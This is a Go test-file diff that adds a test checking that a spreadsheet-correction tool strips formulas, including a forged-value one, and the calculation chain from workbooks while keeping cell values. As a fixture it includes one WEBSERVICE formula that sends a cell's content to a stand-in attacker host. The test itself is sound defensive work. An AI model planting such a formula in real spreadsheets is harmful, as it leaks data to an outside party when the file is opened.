@@ -1,7 +1,9 @@
 package correction_test
 
 import (
+	"archive/zip"
 	"bytes"
+	"io"
 	"fmt"
 	"strings"
 	"testing"
@@ -214,4 +216,84 @@ func TestWriteNothingToMark(t *testing.T) {
 			}
 		})
 	}
+}
+
+// TestFormulasNeutralised: the unit's own formulas (=WEBSERVICE(…) with a
+// forged cached value, a shared formula, a plain sum) never reach the
+// admin who opens the correction workbook: each cell keeps its value and
+// loses its formula, and the calculation chain goes with them.
+func TestFormulasNeutralised(t *testing.T) {
+	f := excelize.NewFile()
+	f.SetSheetName("Sheet1", "Rilevazione")
+	f.SetCellStr("Rilevazione", "A7", "1.1.7")
+	f.SetCellStr("Rilevazione", "H7", "abc")
+	f.SetCellFormula("Rilevazione", "H8", `_xlfn.WEBSERVICE("http://attacker.example/?"&A7)`)
+	f.SetCellFormula("Rilevazione", "H9", "SUM(1,2)")
+	f.SetCellFormula("Rilevazione", "I1", "A1", excelize.FormulaOpts{Type: ptr(excelize.STCellFormulaTypeShared), Ref: ptr("I1:I3")})
+	var buf bytes.Buffer
+	if err := f.Write(&buf); err != nil {
+		t.Fatal(err)
+	}
+	f.Close()
+	// the cached values a forger writes, and Excel's calculation chain
+	book := patchPart(t, buf.Bytes(), "xl/worksheets/sheet1.xml", func(s string) string {
+		s = strings.Replace(s, `&amp;A7)</f>`, `&amp;A7)</f><v>1000</v>`, 1)
+		return strings.Replace(s, `SUM(1,2)</f>`, `SUM(1,2)</f><v>3</v>`, 1)
+	})
+	out, err := correction.Write(book, []model.Problem{{Sheet: "Rilevazione", Cell: "H7", Message: "scrivere un numero"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	g, err := excelize.OpenReader(bytes.NewReader(out))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer g.Close()
+	for _, cell := range []string{"H8", "H9", "I1", "I2", "I3"} {
+		if fm, _ := g.GetCellFormula("Rilevazione", cell); fm != "" {
+			t.Errorf("%s keeps the formula %q", cell, fm)
+		}
+	}
+	for cell, want := range map[string]string{"H8": "1000", "H9": "3", "H7": "abc"} {
+		if v, _ := g.GetCellValue("Rilevazione", cell); v != want {
+			t.Errorf("%s = %q, want %q", cell, v, want)
+		}
+	}
+	zr, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, part := range zr.File {
+		rc, _ := part.Open()
+		data, _ := io.ReadAll(rc)
+		rc.Close()
+		if strings.Contains(string(data), "WEBSERVICE") || strings.Contains(part.Name, "calcChain") {
+			t.Errorf("%s still holds the formula or the calculation chain", part.Name)
+		}
+	}
+}
+
+func ptr[T any](v T) *T { return &v }
+
+// patchPart rewrites one part of a workbook's zip.
+func patchPart(t *testing.T, book []byte, name string, edit func(string) string) []byte {
+	t.Helper()
+	zr, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out bytes.Buffer
+	zw := zip.NewWriter(&out)
+	for _, f := range zr.File {
+		rc, _ := f.Open()
+		data, _ := io.ReadAll(rc)
+		rc.Close()
+		if f.Name == name {
+			data = []byte(edit(string(data)))
+		}
+		w, _ := zw.Create(f.Name)
+		w.Write(data)
+	}
+	zw.Close()
+	return out.Bytes()
 }
